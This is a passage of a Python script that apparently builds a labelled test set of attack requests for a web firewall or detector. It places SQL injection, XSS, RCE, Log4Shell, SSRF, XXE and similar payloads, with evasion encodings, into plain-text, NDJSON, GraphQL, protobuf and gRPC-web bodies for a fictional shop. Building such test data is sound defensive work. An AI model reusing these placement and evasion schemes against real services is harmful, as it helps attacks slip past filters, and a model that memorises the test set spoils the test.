    rng = random.Random(seed)
    b = Builder(rng, Clients(seed))
    out = []
    for cat, payloads, slots, targets, soft in CATEGORIES:
        seen = set()
        for i, p in enumerate(payloads):
            assert p.key not in seen, (cat, p.key)
            seen.add(p.key)
            p.group = f"{cat}-{i:03d}"
        splits = split_of(cat, payloads)
        usage = {p.key: 0 for p in payloads}
        combo = {}
        enc_use = {}
        n = 0
        for pl, count in targets.items():
            encs = encodings_for(cat, pl)
            elig = [p for p in payloads if placement_allowed(cat, p, pl) and
                    any(slot_ok(cat, pl, s, p, soft) for s in slots[pl])]
            assert elig, (cat, pl)
            picks = pick_requests(
                rng, cat, pl, count, elig, slots[pl], encs,
                fits=lambda s, p: slot_ok(cat, pl, s, p, soft),
                exact=lambda s, p: isinstance(s, dict) and s.get("ctx") == p.ctx,
                make=lambda p, enc, slot: build(b, cat, pl, p, enc, slot),
                usage=usage, combo=combo, enc_use=enc_use)
            for p, enc, req in picks:
                label = p.enc if enc == "plain" and p.enc else enc
                if cat == "java-deserialization" and enc == "plain" and "binary" in p.flags:
                    label = "binary"
                n += 1
                rec = {"id": f"atk-{cat}-{n:04d}", "kind": "attack"}
                rec.update(req)
                rec.update({"expect": "block", "category": cat, "placement": pl,
                            "encoding": label, "split": splits[p.key], "group": p.group})
                out.append(rec)
    return out


# ----------------------------------------------------------------------------------------------
# Bodies no form, JSON or XML parser reads: text/plain (beacons, feedback, plain-text API
# calls), NDJSON, application/graphql, protobuf, gRPC-web and gRPC-web-text. They come after
# the requests above and draw from a generator of their own (seeded apart), so adding them
# left every request before them byte for byte as it was. Same payloads, groups and splits.

BODY_SEED_SALT = 4099  # the bodies' generator: random.Random(seed * 10007 + BODY_SEED_SALT)
BINARY_PLACEMENTS = {"protobuf", "grpc-web"}  # body_base64, whatever the bytes


def pb_varint(n):
    out = bytearray()
    while True:
        low, n = n & 0x7F, n >> 7
        out.append(low | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_field(field, value):
    """One field: an int as a varint (wire type 0), str/bytes as length-delimited (wire type
    2), a list of (field, value) as an embedded message (wire type 2)."""
    if isinstance(value, int):
        return pb_varint(field << 3) + pb_varint(int(value))
    if isinstance(value, list):
        value = pb_message(value)
    elif isinstance(value, str):
        value = value.encode("utf-8")
    return pb_varint(field << 3 | 2) + pb_varint(len(value)) + value


def pb_message(fields):
    return b"".join(pb_field(f, v) for f, v in fields)


def pb_fill(template, value):
    """template (a list of (field, value)) with "$P" replaced by value, at any depth."""
    return [(f, pb_fill(v, value) if isinstance(v, list) else value if v == "$P" else v)
            for f, v in template]


def grpc_frame(message):
    """A gRPC(-web) data frame: flag byte 0 (not compressed), 4-byte big-endian length."""
    return b"\x00" + struct.pack(">I", len(message)) + message


def gql_string(s, uescape, rng):
    """A GraphQL string literal; uescape: \\uXXXX escapes, as json_literal (the server decodes
    them before the resolver sees the argument)."""
    out = ['"']
    for c in s:
        if uescape and not (c.isascii() and c.isalnum() and rng.random() < 0.75):
            units = [ord(c)] if ord(c) < 0x10000 else [
                0xD800 + ((ord(c) - 0x10000) >> 10), 0xDC00 + ((ord(c) - 0x10000) & 0x3FF)]
            out += [("\\u%04x" if rng.random() < 0.5 else "\\u%04X") % u for u in units]
        elif c in '"\\':
            out.append("\\" + c)
        elif c in "\n\r\t\b\f":
            out.append({"\n": "\\n", "\r": "\\r", "\t": "\\t", "\b": "\\b", "\f": "\\f"}[c])
        elif ord(c) < 0x20 or ord(c) == 0x7F:
            out.append("\\u%04x" % ord(c))
        else:
            out.append(c)
    return "".join(out) + '"'


def gql_block_string(s):
    """A GraphQL block string (triple-quoted, raw but for an escaped triple quote), or None
    when s has a control character a document may not carry or ends in a quote."""
    if any(ord(c) < 0x20 and c not in "\t\n\r" for c in s) or s.endswith('"'):
        return None
    return '"""' + s.replace('"""', '\\"""') + '"""'


def fake_jwt(rng, claims):
    head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').rstrip(b"=").decode()
    body = base64.urlsafe_b64encode(json.dumps(claims, separators=(",", ":")).encode())
    sig = base64.urlsafe_b64encode(rng.randbytes(32)).rstrip(b"=").decode()
    return head + "." + body.rstrip(b"=").decode() + "." + sig


class Apps:
    """The shop's mobile apps (what sends its protobuf API and NDJSON batches): installs with
    their HTTP stack's header set and order."""

    def __init__(self, seed):
        self.installs = []
        for i in range(12):
            r = random.Random(seed * 1000033 + i)
            stack = "okhttp" if r.random() < 0.55 else "cfnetwork"
            version = r.choice(["5.11.0", "5.12.1", "5.12.2"])
            if stack == "okhttp":
                os_ver, model = r.choice([("14", "Pixel 7"), ("13", "SM-G991B"),
                                          ("14", "SM-S918B"), ("12", "moto g(60)")])
                ua = r.choice(["okhttp/4.12.0", f"ShopApp/{version} (Android {os_ver}; {model})"])
            else:
                cfn = r.choice(["1490.0.4", "1494.0.7"])
                darwin = r.choice(["23.4.0", "23.5.0"])
                ua = f"ShopApp/{version.rsplit('.', 1)[0]} CFNetwork/{cfn} Darwin/{darwin}"
            device = "%08x-%04x-4%03x-%04x-%012x" % (r.getrandbits(32), r.getrandbits(16),
                                                     r.getrandbits(12),
                                                     0x8000 | r.getrandbits(14), r.getrandbits(48))
            iat = 1718000000 + r.randrange(30 * 86400)
            token = fake_jwt(r, {"sub": str(r.randrange(10 ** 5, 10 ** 6)),
                                 "iss": "https://" + SITE, "iat": iat, "exp": iat + 3600,
                                 "did": device})
            lang = r.choice(["en-GB", "en-US", "de-DE", "fr-FR", "es-ES", "ja-JP"])
            self.installs.append({"stack": stack, "ua": ua, "version": version, "device": device,
                                  "token": token, "lang": lang})

    def headers(self, rng, accept, content_type, custom=()):
        inst = rng.choice(self.installs)
        auth = ["Authorization", "Bearer " + inst["token"]]
        if inst["stack"] == "okhttp":
            h = [auth, ["X-App-Version", inst["version"]], ["X-Device-Id", inst["device"]],
                 ["Accept-Language", inst["lang"]], ["Accept", accept]] + [list(c) for c in custom]
            if inst["ua"].startswith("ShopApp"):
                h.append(["User-Agent", inst["ua"]])
            h += [["Content-Type", content_type], ["Host", SITE], ["Connection", "Keep-Alive"],
                  ["Accept-Encoding", "gzip"]]
            if not inst["ua"].startswith("ShopApp"):
                h.append(["User-Agent", inst["ua"]])
            return h, inst
        h = [["Host", SITE], ["Content-Type", content_type], ["Accept", accept], auth,
             ["X-Device-Id", inst["device"]]] + [list(c) for c in custom]
        h += [["Accept-Language", inst["lang"] + ";q=1.0, en;q=0.9"], ["User-Agent", inst["ua"]],
              ["Accept-Encoding", "gzip, deflate, br"], ["Connection", "keep-alive"]]
        return h, inst


def shipper_headers(rng, content_type):
    """A log shipper posting to the ingest endpoint (Fluent Bit, or Vector's lower-case names)."""
    secret = benign.rand_str(rng, 24)
    if rng.random() < 0.5:
        return [["Host", SITE], ["Content-Type", content_type], ["User-Agent", "Fluent-Bit"],
                ["Authorization", "Basic " + b64("shipper:" + secret)]]
    return [["content-type", content_type],
            ["user-agent", "Vector/0.38.0 (x86_64-unknown-linux-gnu 5b5f3b1 2024-05-01)"],
            ["authorization", "Bearer vt_" + secret], ["accept-encoding", "zstd,gzip,deflate,br"],
            ["host", SITE]]


# Fillers: the ordinary lines around the one that carries the payload.

def log_line(rng):
    ts = f"2024-06-{rng.randrange(10, 28)}T{rng.randrange(24):02d}:{rng.randrange(60):02d}:" \
         f"{rng.randrange(60):02d}.{rng.randrange(1000):03d}Z"
    if rng.random() < 0.7:
        return {"@timestamp": ts, "log": {"logger": "nginx.access"},
                "client_ip": f"198.51.100.{rng.randrange(1, 255)}", "method": "GET",
                "path": rng.choice(["/", "/cart", "/api/v1/cart", "/products/48213",
                                    "/search?q=" + quote_plus(rng.choice(benign.SEARCHES))]),
                "status": rng.choice([200, 200, 200, 304, 404]),
                "bytes": rng.randrange(200, 90000), "ua": benign.make_browser(rng)["ua"],
                "rt": round(rng.uniform(0.001, 0.8), 3)}
    return {"@timestamp": ts, "level": "info", "logger": rng.choice(["checkout", "cart", "auth"]),
            "msg": rng.choice(["order placed", "cart updated", "login ok", "session refreshed"]),
            "trace_id": benign.rand_hex(rng, 32)}


def event_line(rng):
    ev = rng.choice(["screen_view", "add_to_cart", "app_open", "view_item"])
    props = {"screen": rng.choice(["Home", "Search", "ProductDetail", "Cart"])}
    if ev in ("add_to_cart", "view_item"):
        props["item_id"] = f"SKU-{rng.randrange(10000, 99999)}"
    return {"event": ev, "ts": 1718000000000 + rng.randrange(30 * 86400000),
            "session": benign.rand_hex(rng, 8), "props": props, "app": "5.12.1"}


def product_line(rng):
    sku = f"SKU-{rng.randrange(10000, 99999)}"
    return {"sku": sku, "name": rng.choice(["Ceramic mug", "Trail running shoe", "Garden hose 25 m",
                                            "Coffee grinder", "Yoga mat"]),
            "price": rng.randrange(5, 300) + 0.99, "stock": rng.randrange(0, 400),
            "description": rng.choice(benign.REVIEW_TEXTS),
            "image_url": f"https://cdn.{SITE}/i/{sku.lower()}.jpg"}


def monitor_line(rng):
    return {"name": f"edge-{rng.randrange(1, 9)}",
            "host": rng.choice([f"{rng.randrange(10, 99)}.example.net", "cdn.example.org",
                                f"198.51.100.{rng.randrange(1, 255)}"]),
            "interval": rng.choice([30, 60, 300])}


def query_line(rng):
    return rng.choice([{"filter": {"status": rng.choice(["paid", "shipped"])}, "limit": 20},
                       {"filter": {"customerId": str(rng.randrange(10 ** 5, 10 ** 6))},
                        "limit": 50},
                       {"filter": {"createdAt": {"from": "2024-06-01"}}, "limit": 100}])


def user_line(rng):
    first, last = rng.choice(benign.FIRST), rng.choice(benign.LAST)
    return {"email": f"{first.lower()}.{benign.rand_hex(rng, 4)}@example.org",
            "name": f"{first} {last}", "newsletter": rng.random() < 0.5, "locale": "en-GB"}


# Slots: kind (how the request is built), path, the categories it fits, a context as the slots
# above have one.

def BS(pl, kind, path, fits, ctx=None, **kw):
    return dict(kw, pl=pl, kind=kind, path=path, fits=set(fits.split()), ctx=ctx)


SEGMENT = {"type": "track", "event": "Products Searched", "properties": {"query": "$P"},
           "context": {"page": {"path": "/search", "title": "Search results"},
                       "library": {"name": "analytics.js", "version": "npm:next-1.70.0"}},
           "writeKey": "sEgWk3yQ9m2LxT7aB4cD1eF6gH8jK0nP"}
FEEDBACK_TEMPLATES = ["{P}", "{P}\n", "Hello,\n\n{P}\n\nThanks, Dana\n",
                      "Order 88213: {P}\n"]
XML_FOR_TEXT = ("order", "<order><id>88213</id><customer><name>{use}</name></customer>"
                "<items><item sku=\"SKU-40211\" qty=\"1\"/></items></order>")

BODY_SLOTS = {
    "text-body": [
        BS("text-body", "beacon", "/rum", "sqli xss log4shell ssti",
           obj={"name": "LCP", "value": 2140.5, "rating": "needs-improvement",
                "id": "v4-1718000000123-8841220913377", "navigationType": "navigate",
                "page": "$P", "attribution": {"element": "#main>div.hero>img.product-image"}}),
        BS("text-body", "beacon", "/seg/v1/t", "sqli xss log4shell ssti", obj=SEGMENT),
        BS("text-body", "json-text", "/api/v1/auth/login", "sqli log4shell", ctx="str",
           obj={"username": "$P", "password": "Summer2024!"}),
        BS("text-body", "json-text", "/api/v1/users/lookup", "nosql", ctx="js",
           obj={"username": "$P"}),
        BS("text-body", "json-text", "/api/v1/webhooks", "ssrf",
           obj={"webhookUrl": "$P", "events": ["order.created"]}),
        BS("text-body", "json-text", "/api/v1/files/read", "path-traversal lfi",
           obj={"path": "$P"}),
        BS("text-body", "json-text", "/api/v1/tools/ping", "rce", obj={"host": "$P", "count": 4}),
        BS("text-body", "object", "/api/v1/auth/login", "nosql", ctx="auth", obj={}),
        BS("text-body", "object", "/api/v1/products/search", "nosql", ctx="filter", obj={}),
        BS("text-body", "object", "/api/v1/me/preferences", "prototype-pollution",
           obj={"newsletter": True}),
        BS("text-body", "raw", "/api/v1/feedback/text", "xss sqli ssti log4shell",
           templates=FEEDBACK_TEMPLATES, browser=0.8),
        BS("text-body", "raw", "/api/v1/support/tickets/88213/messages?format=plain",
           "xss ssti log4shell sqli", templates=["{P}", "{P}\n"], browser=0.5),
        BS("text-body", "raw", "/api/v1/tools/ping", "rce", templates=["{P}"], browser=0.1),
        BS("text-body", "json-text", "/api/v1/themes/install", "rfi", obj={"source": "$P"}),
        BS("text-body", "raw", "/api/v1/images/import", "ssrf", templates=["{P}", "{P}\n"],
           browser=0.2),
        BS("text-body", "raw", "/api/v1/files/download", "path-traversal lfi",
           templates=["{P}"], browser=0.1),
        BS("text-body", "xml", "/api/v1/orders/import", "xxe", xml=XML_FOR_TEXT),
    ],
    "ndjson": [
        BS("ndjson", "lines", "/ingest/v1/logs", "log4shell xss sqli",
           filler=log_line, client="shipper",
           line={"@timestamp": "2024-06-14T09:12:44.120Z", "log": {"logger": "nginx.access"},
                 "client_ip": "203.0.113.77", "method": "GET", "path": "/", "status": 200,
                 "bytes": 5120, "ua": "$P", "rt": 0.012}),
        BS("ndjson", "lines", "/ingest/v1/logs", "log4shell ssti sqli xss",
           filler=log_line, client="shipper",
           line={"@timestamp": "2024-06-14T09:12:44.120Z", "level": "warn", "logger": "http",
                 "msg": "not found", "path": "$P", "status": 404}),
        BS("ndjson", "lines", "/api/v1/analytics/batch", "sqli xss log4shell ssti",
           filler=event_line, client="app",
           line={"event": "search", "ts": 1718351564120, "session": "9f3a1c2b",
                 "props": {"screen": "Search", "term": "$P", "results": 0}, "app": "5.12.1"}),
        BS("ndjson", "lines", "/api/v1/products/import", "xss ssti sqli",
           filler=product_line, client="tool",
           line={"sku": "SKU-40211", "name": "Ceramic mug", "price": 12.99, "stock": 40,
                 "description": "$P", "image_url": f"https://cdn.{SITE}/i/sku-40211.jpg"}),
        BS("ndjson", "lines", "/api/v1/products/import", "ssrf",
           filler=product_line, client="tool",
           line={"sku": "SKU-40212", "name": "Espresso cup", "price": 8.99, "stock": 12,
                 "description": "Stackable.", "image_url": "$P"}),
        BS("ndjson", "lines", "/api/v1/products/import", "path-traversal lfi",
           filler=product_line, client="tool",
           line={"sku": "SKU-40213", "name": "Tea pot", "price": 24.99, "stock": 9,
                 "description": "Cast iron.", "image": "$P"}),
        BS("ndjson", "lines", "/api/v1/monitors/import", "rce", filler=monitor_line,
           client="tool", line={"name": "edge-3", "host": "$P", "interval": 60}),
        BS("ndjson", "lines", "/api/v1/users/lookup", "nosql", ctx="js",
           filler=lambda rng: {"username": user_line(rng)["email"].split("@")[0]},
           client="tool", line={"username": "$P"}),
        BS("ndjson", "object-lines", "/api/v1/search/_msearch", "nosql", ctx="filter",
           filler=query_line, client="tool"),
        BS("ndjson", "object-lines", "/api/v1/users/import", "prototype-pollution",
           filler=user_line, client="tool"),
    ],
    "graphql": [
        BS("graphql", "doc", "/graphql", "sqli xss log4shell ssti", ctx="str",
           doc='query ProductSearch {\n  products(search: {P}, first: 24) {\n    edges { node '
               '{ id name price } }\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "sqli", ctx="order",
           doc='query ProductSearch {\n  products(search: "mug", first: 24, orderBy: {P}) {\n'
               '    edges { node { id name price } }\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "sqli", ctx="num",
           doc='{\n  order(id: {P}) {\n    id\n    status\n    total\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "xss ssti log4shell sqli", block=True,
           doc='mutation {\n  createReview(productId: "48213", input: {rating: 5, title: '
               '"Great value", body: {P}}) {\n    id\n  }\n}\n'),
        BS("graphql", "doc", "/api/graphql", "xss ssti sqli log4shell",
           doc='mutation UpdateProfile {\n  updateProfile(input: {displayName: {P}, '
               'locale: "en-GB"}) {\n    id\n    displayName\n  }\n}\n'),
        BS("graphql", "doc", "/api/graphql", "xss", ctx="url",
           doc='mutation UpdateProfile {\n  updateProfile(input: {website: {P}}) {\n    id\n  }'
               '\n}\n'),
        BS("graphql", "doc", "/graphql", "nosql", ctx="js",
           doc='{\n  users(filter: {name: {P}}) {\n    id\n    email\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "ssrf",
           doc='mutation {\n  createWebhook(url: {P}, events: [ORDER_CREATED]) {\n    id\n'
               '    secret\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "ssrf",
           doc='mutation {\n  importProductImage(productId: "48213", url: {P}) {\n    id\n'
               '    width\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "rfi",
           doc='mutation {\n  installTheme(source: {P}, activate: true) {\n    id\n    name\n'
               '  }\n}\n'),
        BS("graphql", "doc", "/graphql", "path-traversal lfi",
           doc='{\n  invoice(orderId: "88213", file: {P}) {\n    downloadUrl\n  }\n}\n'),
        BS("graphql", "doc", "/api/graphql", "ssti lfi", block=True,
           doc='mutation {\n  previewEmail(template: {P}, data: "{\\"name\\": \\"Dana\\"}") {\n'
               '    html\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "rce",
           doc='mutation {\n  runDiagnostics(host: {P}, count: 4) {\n    output\n  }\n}\n'),
        BS("graphql", "doc", "/graphql", "rce", ctx="code",
           doc='mutation {\n  evaluateRule(expression: {P}) {\n    result\n  }\n}\n'),
    ],
}

# Messages of the shop's protobuf API (the apps) and of its gRPC-web services (the site).
SEARCH_MSG = [(1, "$P"), (2, 1), (3, "en-GB"), (4, [(1, "kitchen"), (2, 1)])]
SEARCH_NESTED = [(1, "mug"), (2, 1), (3, "en-GB"), (4, [(1, "$P"), (2, 1)])]
REVIEW_MSG = [(1, "48213"), (2, 5), (3, "Great value"), (4, "$P"),
              (5, [(1, "Dana K."), (2, "en-GB")])]
REVIEW_NESTED = [(1, "48213"), (2, 4), (3, "Nice"), (4, "Arrived quickly."),
                 (5, [(1, "$P"), (2, "en-GB")])]
EVENTS_MSG = [(1, [(1, "screen_view"), (2, 1718351560001), (3, [(1, "screen"), (2, "Search")])]),
              (1, [(1, "search"), (2, 1718351564120), (3, [(1, "term"), (2, "$P")]),
                   (4, "Search")]),
              (2, [(1, "8d1f3c2a-77b0-4c1e-9a0e-5b6f2d8e9c10"), (2, "Pixel 7"), (3, "android"),
                   (4, "5.12.1")])]
PROFILE_MSG = [(1, "$P"), (2, "en-GB"), (3, [(1, f"https://cdn.{SITE}/a/u81.png"), (2, 64)])]
AVATAR_NESTED = [(1, "Dana Kaya"), (2, "en-GB"), (3, [(1, "$P"), (2, 64)])]
WEBSITE_MSG = [(1, "Dana Kaya"), (4, "$P")]
INVOICE_MSG = [(1, "88213"), (2, "$P")]
URL_MSG = [(1, "$P"), (2, [(1, 640), (2, "webp")])]
PING_MSG = [(1, "$P"), (2, 4)]
TICKET_MSG = [(1, "Order question"), (2, "$P"), (3, 88213)]
IMPORT_MSG = [(1, "orders.xml"), (2, "application/xml"), (3, "$P")]
TICKET_ATTACH = [(1, "Wrong invoice"), (2, "See the attached invoice."), (3, 88213),
                 (4, [(1, "invoice.xml"), (2, "application/xml"), (3, "$P")])]
XML_FOR_PB = ("order", "<order><id>88213</id><customer><name>{use}</name></customer></order>")
XML_INVOICE = ("invoice", "<invoice><number>{use}</number><total currency=\"EUR\">42.00</total>"
               "</invoice>")


def pb_slots(pl):
    """The same services for protobuf (the apps' REST-ish /v2 API) and gRPC-web (the site)."""
    if pl == "protobuf":
        def path(rest, grpc):
            return rest
    else:
        def path(rest, grpc):
            return grpc
    return [
        BS(pl, "msg", path("/v2/search", "/shop.search.v1.SearchService/Search"),
           "sqli xss log4shell ssti", msg=SEARCH_MSG),
        BS(pl, "msg", path("/v2/search", "/shop.search.v1.SearchService/Search"),
           "sqli xss", msg=SEARCH_NESTED),
        BS(pl, "msg", path("/v2/reviews", "/shop.review.v1.ReviewService/CreateReview"),
           "xss ssti sqli log4shell", msg=REVIEW_MSG),
        BS(pl, "msg", path("/v2/reviews", "/shop.review.v1.ReviewService/CreateReview"),
           "xss sqli log4shell", msg=REVIEW_NESTED),
        BS(pl, "msg", path("/v2/events", "/shop.analytics.v1.EventService/Track"),
           "sqli xss log4shell ssti", msg=EVENTS_MSG),
        BS(pl, "msg", path("/v2/profile", "/shop.account.v1.AccountService/UpdateProfile"),
           "xss ssti sqli log4shell", msg=PROFILE_MSG, method="PUT"),
        BS(pl, "msg", path("/v2/profile", "/shop.account.v1.AccountService/UpdateProfile"),
           "ssrf", msg=AVATAR_NESTED, method="PUT"),
        BS(pl, "msg", path("/v2/profile", "/shop.account.v1.AccountService/UpdateProfile"),
           "xss", ctx="url", msg=WEBSITE_MSG, method="PUT"),
        BS(pl, "msg", path("/v2/invoices/download", "/shop.files.v1.FileService/GetInvoice"),
           "path-traversal lfi", msg=INVOICE_MSG),
        BS(pl, "msg", path("/v2/share/preview", "/shop.media.v1.MediaService/ImportImage"),
           "ssrf", msg=URL_MSG),
        BS(pl, "msg", path("/v2/support/diagnostics", "/shop.admin.v1.DiagnosticsService/Ping"),
           "rce", msg=PING_MSG),
        BS(pl, "msg", path("/v2/support/tickets", "/shop.support.v1.SupportService/CreateTicket"),
           "xss ssti log4shell sqli", msg=TICKET_MSG),
        BS(pl, "msg", path("/partner/v1/orders/import",
                           "/shop.partner.v1.ImportService/ImportOrders"),
           "xxe", msg=IMPORT_MSG, xml=XML_FOR_PB),
        BS(pl, "msg", path("/v2/support/tickets", "/shop.support.v1.SupportService/CreateTicket"),
           "xxe", msg=TICKET_ATTACH, xml=XML_INVOICE),
    ]


for _pl in ("protobuf", "grpc-web", "grpc-web-text"):
    BODY_SLOTS[_pl] = pb_slots(_pl)

# Requests per category and placement (placements the category has no slot for are absent).
BODY_TARGETS = {
    "sqli": {"text-body": 7, "ndjson": 5, "graphql": 7, "protobuf": 7, "grpc-web": 6,
             "grpc-web-text": 5},
    "xss": {"text-body": 8, "ndjson": 5, "graphql": 5, "protobuf": 6, "grpc-web": 5,
            "grpc-web-text": 4},
    "rce": {"text-body": 4, "ndjson": 3, "graphql": 3, "protobuf": 4, "grpc-web": 4,
            "grpc-web-text": 4},
    "path-traversal": {"text-body": 2, "ndjson": 2, "graphql": 3, "protobuf": 3, "grpc-web": 3,
                       "grpc-web-text": 2},
    "lfi": {"text-body": 2, "graphql": 2, "protobuf": 2, "grpc-web": 2, "grpc-web-text": 2},
    "rfi": {"text-body": 1, "graphql": 2},
    "ssrf": {"text-body": 2, "ndjson": 2, "graphql": 4, "protobuf": 4, "grpc-web": 4,
             "grpc-web-text": 3},
    "ssti": {"text-body": 5, "ndjson": 3, "graphql": 3, "protobuf": 3, "grpc-web": 3,
             "grpc-web-text": 2},
    "log4shell": {"text-body": 4, "ndjson": 6, "graphql": 2, "protobuf": 3, "grpc-web": 3,
                  "grpc-web-text": 3},
    "xxe": {"text-body": 2, "protobuf": 2, "grpc-web": 2},
    "nosql": {"text-body": 3, "ndjson": 2, "graphql": 3},
    "prototype-pollution": {"text-body": 2, "ndjson": 2},
}
JSON_BEARING = {"beacon", "json-text", "object", "lines", "object-lines", "doc"}
BODY_PLAIN = {"text-body": {"plain": 5, "unicode-escape": 2},
              "ndjson": {"plain": 5, "unicode-escape": 2},
              "graphql": {"plain": 5, "unicode-escape": 1},
              "protobuf": {"plain": 5}, "grpc-web": {"plain": 5}, "grpc-web-text": {"plain": 5}}


def body_encodings(cat, pl):
    if cat == "xxe":
        return {"plain": 1}
    if cat in ("nosql", "prototype-pollution") and pl != "graphql":
        return {"plain": 3, "unicode-escape": 2}
    encs = dict(BODY_PLAIN[pl])
    for e, w in EVASIONS.get(cat, {}).items():
        if e not in ("base64", "url-partial", "utf8-overlong", "percent-u"):
            encs[e] = w  # payload-level evasions only: nothing here URL-decodes
    return encs


def body_payload_ok(cat, p, pl):
    """Whether payload p can be carried in a body of placement pl at all."""
    if cat == "xxe":
        return pl in ("text-body", "protobuf", "grpc-web", "grpc-web-text")
    if isinstance(p.text, (bytes, list)) or "shellshock" in p.flags:
        return False  # serialized objects, bracket keys, header-only attacks
    if isinstance(p.text, dict):
        return pl in ("text-body", "ndjson")
    # A payload limited to some placements goes where a JSON string value goes, if at all.
    return p.only is None or "json" in p.only


def body_slot_ok(cat, slot, p, soft):
    if cat not in slot["fits"]:
        return False
    if cat == "xxe":
        return "xml" in slot
    if isinstance(p.text, dict):
        return slot["kind"] in ("object", "object-lines") and (
            cat != "nosql" or slot["ctx"] == p.ctx)
    if slot["kind"] in ("object", "object-lines", "xml") or "xml" in slot:
        return False
    return slot_fits(slot, p, soft)


def xxe_document(p, root_template):
    doctype, use = p.raw
    root, template = root_template
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' +
            (doctype.replace("{root}", root) + "\n" if doctype else "") +
            template.replace("{use}", use or "test"))


class BodyBuilder(Builder):
    def __init__(self, rng, clients, apps):
        super().__init__(rng, clients)
        self.apps = apps

    def browser_headers(self, client, target, accept, mode, extra):
        """A fetch/XHR (mode cors) or sendBeacon (mode no-cors) POST from the shop's pages."""
        b, session = client["b"], client["session"]
        req = benign.browser_request(self.rng, b, session, "xhr", "POST", target, accept,
                                     "empty", mode, "same-origin",
                                     list(extra) + [("Origin", ORIGIN)])
        return [list(h) for h in req["headers"]]

    def headers_for(self, client, target, ctype, accept, mode="cors", extra=()):
        if client["type"] == "browser":
            return self.browser_headers(client, target, accept, mode,
                                        [("Content-Type", ctype)] + list(extra))
        return client_headers(self.rng, client, "POST", target,
                              extra=[("Content-Type", ctype)] + list(extra), accept=accept)

    def finish(self, method, target, headers, body, binary=False):
        req = {"method": method, "target": target, "headers": headers}
        if binary or "\x00" in body:
            data = body if isinstance(body, bytes) else body.encode("utf-8")
            req["body_base64"] = base64.b64encode(data).decode("ascii")
        else:
            req["body"] = body
        return req

    # -- text/plain ---------------------------------------------------------------------------

    def text_body(self, slot, value, mode):
        rng, kind = self.rng, slot["kind"]
        if kind in ("beacon", "json-text", "object"):
            if kind == "object":
                obj = dict(slot["obj"])
                obj.update(value)
                body = json_dump(mark_operators(obj), rng, mode == "uescape")
            else:
                body = json_dump(replace_sentinel(slot["obj"], Marked(value)), rng,
                                 mode == "uescape")
            if kind == "beacon":  # navigator.sendBeacon(url, JSON.stringify(...))
                client = self.client(0.9)
                ctype, accept, fetch = "text/plain;charset=UTF-8", "*/*", "no-cors"
            else:  # a simple request: no CORS preflight for text/plain
                client = self.client(0.25)
                ctype, accept, fetch = rng.choice(["text/plain", "text/plain;charset=UTF-8"]), \
                    "application/json, text/plain, */*", "cors"
            return self.finish("POST", slot["path"], self.headers_for(client, slot["path"], ctype,
                                                                     accept, fetch), body)
        if mode == "uescape":
            return None  # raw text: nothing decodes \u escapes
        if kind == "xml":
            body = value
            client = self.client(tools=["curl", "python", "java", "go"])
        else:
            body = rng.choice(slot["templates"]).replace("{P}", value)
            client = self.client(slot["browser"])
        ctype = "text/plain;charset=UTF-8" if client["type"] == "browser" else rng.choice(
            ["text/plain", "text/plain; charset=utf-8"])
        return self.finish("POST", slot["path"], self.headers_for(client, slot["path"], ctype,
                                                                 "*/*"), body)

    # -- NDJSON -------------------------------------------------------------------------------

    def ndjson(self, slot, value, mode):
        rng = self.rng
        lines = [json_dump(slot["filler"](rng), rng) for _ in range(rng.randrange(2, 6))]
        if slot["kind"] == "object-lines":
            obj = dict(value)
            if slot["ctx"] is None:  # an imported record with extra keys
                obj = dict(slot["filler"](rng), **obj)
            hit = json_dump(mark_operators(obj), rng, mode == "uescape")
        else:
            hit = json_dump(replace_sentinel(slot["line"], Marked(value)), rng, mode == "uescape")
        lines.insert(rng.randrange(1, len(lines) + 1), hit)
        body = "\n".join(lines) + "\n"
        ctype = rng.choice(["application/x-ndjson", "application/x-ndjson", "application/jsonl",
                            "application/x-ndjson; charset=utf-8"])
        who = slot["client"]
        if who == "shipper" and rng.random() < 0.7:
            headers = shipper_headers(rng, ctype)
        elif who == "app":
            headers, _ = self.apps.headers(rng, "application/json", ctype)
        else:
            headers = client_headers(rng, self.client(tools=["curl", "python", "go"]), "POST",
                                     slot["path"], extra=[("Content-Type", ctype)],
                                     accept="application/json")
        return self.finish("POST", slot["path"], headers, body)

    # -- application/graphql ------------------------------------------------------------------

    def graphql(self, slot, value, mode):
        rng = self.rng
        lit = None
        if mode != "uescape" and slot.get("block") and rng.random() < 0.5:
            lit = gql_block_string(value)
        if lit is None:
            lit = gql_string(value, mode == "uescape", rng)
        body = slot["doc"].replace("{P}", lit)
        client = self.client(0.3, None)
        if client["type"] == "browser":
            headers = self.browser_headers(
                client, slot["path"], "application/graphql-response+json,application/json;q=0.9",
                "cors", [("Content-Type", "application/graphql")])
        else:
            headers = client_headers(rng, client, "POST", slot["path"],
                                     extra=[("Content-Type", "application/graphql")],
                                     accept=rng.choice(["application/json", "*/*"]))
        return self.finish("POST", slot["path"], headers, body)

    # -- protobuf, gRPC-web, gRPC-web-text ----------------------------------------------------

    def protobuf(self, slot, value, mode):
        if mode != "plain":
            return None
        rng = self.rng
        msg = pb_message(pb_fill(slot["msg"], value))
        method = slot.get("method", "POST")
        if slot["pl"] == "protobuf":
            if slot["path"].startswith("/partner/") or rng.random() < 0.2:
                ctype = "application/x-protobuf"
                headers = client_headers(rng, self.client(tools=["go", "java", "python", "curl"]),
                                         method, slot["path"], extra=[("Content-Type", ctype)],
                                         accept=ctype)
            else:
                ctype = rng.choice(["application/x-protobuf", "application/x-protobuf",
                                    "application/protobuf"])
                headers, _ = self.apps.headers(rng, ctype, ctype)
            return self.finish(method, slot["path"], headers, msg, binary=True)
        frame = grpc_frame(msg)
        if rng.random() < 0.5:
            custom = [("x-grpc-web", "1"), ("x-user-agent", "grpc-web-javascript/0.1")]
        else:
            custom = [("x-grpc-web", "1"), ("x-user-agent", "connect-es/1.4.0"),
                      ("grpc-timeout", "15000m")]
        client = self.client(0.85, None)
        if slot["pl"] == "grpc-web-text":
            ctype = accept = "application/grpc-web-text"
            body, binary = base64.b64encode(frame).decode("ascii"), False
        else:
            ctype = rng.choice(["application/grpc-web+proto", "application/grpc-web+proto",
                                "application/grpc-web"])
